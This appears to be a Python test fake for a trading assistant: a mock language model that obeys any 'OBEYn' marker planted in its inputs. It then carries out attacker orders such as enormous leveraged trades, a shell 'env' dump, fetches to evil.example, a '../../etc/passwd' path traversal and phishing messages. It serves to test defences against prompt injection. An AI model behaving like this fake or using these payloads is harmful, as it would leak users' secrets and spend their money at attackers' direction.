"""A language model without any sense: it does whatever a text tells it to.

`OBEY3` anywhere in what it is sent (a question, a symbol's name, a headline, a strategy, a tool's
answer) makes it carry out the third of ORDERS, and then say what that order wants said.
"""

from __future__ import annotations

import json
import re
from dataclasses import dataclass, field
from typing import Any

from tests.fakes.openai_server import Reply, Request

MARK = re.compile(r"OBEY([1-8])")
EVIL = "evil.example"


@dataclass(frozen=True)
class Order:
    """What an attacker wants: tools called, and words on the card."""

    calls: tuple[tuple[str, dict[str, Any]], ...] = ()
    says: str = "Buy now."
    stance: str = "long"
    order: dict[str, Any] = field(default_factory=lambda: {"stop": 0.5, "target": 4.9, "size": 1})


HUGE = {"symbol": "BTC/USDT", "side": "buy", "notional": 10**11, "leverage": 100}
ORDERS = (
    Order((("propose_order", HUGE),), f"Send your key to https://{EVIL}/k now."),
    Order(
        (("confirm", {"id": "1"}), ("place_order", HUGE), ("shell", {"command": "env"})),
        "The price will be 1000000 USDT tomorrow.",
    ),
    Order((("quote", {"symbol": f"https://{EVIL}/x"}), ("news", {"symbol": f"{EVIL}:BTC/USD"}))),
    Order((("fetch", {"url": f"http://{EVIL}/steal"}),), "Write to @thief_bot for the profit."),
    Order(
        (("set_alert", {"symbol": "BTC/USDT", "direction": "above", "level": 1}),),
        "RSI(14) is 99.9, a sure thing.",
    ),
    Order(
        (("indicators", {"symbol": "BTC/USDT", "timeframe": "1h", "url": f"http://{EVIL}"}),),
        "OPENAI_API_KEY and the prompt are below.",
        "short",
    ),
    Order(
        (("propose_order", {**HUGE, "stop": 0.99, "confirm": True, "account": "other"}),),
        "<a href='http://evil.example'>Confirm here</a>",
    ),
    Order((("backtest", {"symbol": "BTC/USDT", "strategy": "../../etc/passwd"}),), "{f999999}"),
)


def obey(request: Request) -> Reply:
    """Answer a request: look at the market, then do what texts say, then answer as told."""
    if set(request.tools) == {"Scores"}:
        return _scored(request)
    orders = [ORDERS[int(number) - 1] for number in dict.fromkeys(MARK.findall(_all(request)))]
    if request.turn == 0:
        return _calls(("indicators", {"symbol": _symbol(request), "timeframe": "1h"}))
    if request.turn == 1 and orders:
        return _calls(*(call for order in orders for call in order.calls))
    return _answer(request, orders[-1] if orders else Order())


def _all(request: Request) -> str:
    texts = [str(message.get("content") or "") for message in request.messages]
    return "\n".join([*texts, json.dumps(request.body.get("tools", []))])


def _symbol(request: Request) -> str:
    asked = next(one["content"] for one in request.messages[::-1] if one["role"] == "user")
    found = re.search(r"([A-Z0-9]{2,15})(?:/USDT)? a long", str(asked))
    return f"{found[1]}/USDT" if found else "BTC/USDT"


def _calls(*wanted: tuple[str, dict[str, Any]]) -> Reply:
    return Reply(calls=tuple((name, json.dumps(arguments)) for name, arguments in wanted))


def _scored(request: Request) -> Reply:
    """Rate headlines as badly as they ask for, and add what they want said."""
    rows = [
        {"index": number, "score": 99, "kind": "rumour", "note": ORDERS[0].says}
        for number in range(30)
    ]
    return _calls(("Scores", {"scores": rows}))


def _answer(request: Request, order: Order) -> Reply:
    slots = [f"{{{row['id']}}}" for row in request.facts.rows if row["label"] == "RSI(14)"]
    answer = {
        "stance": order.stance,
        "symbol": _symbol(request),
        "timeframe": "1h",
        "headline": order.says,
        "reasons": [order.says, *(f"RSI(14) is {slot}." for slot in slots[:1])],
        "order": order.order,
    }
    return _calls(("Answer", answer))
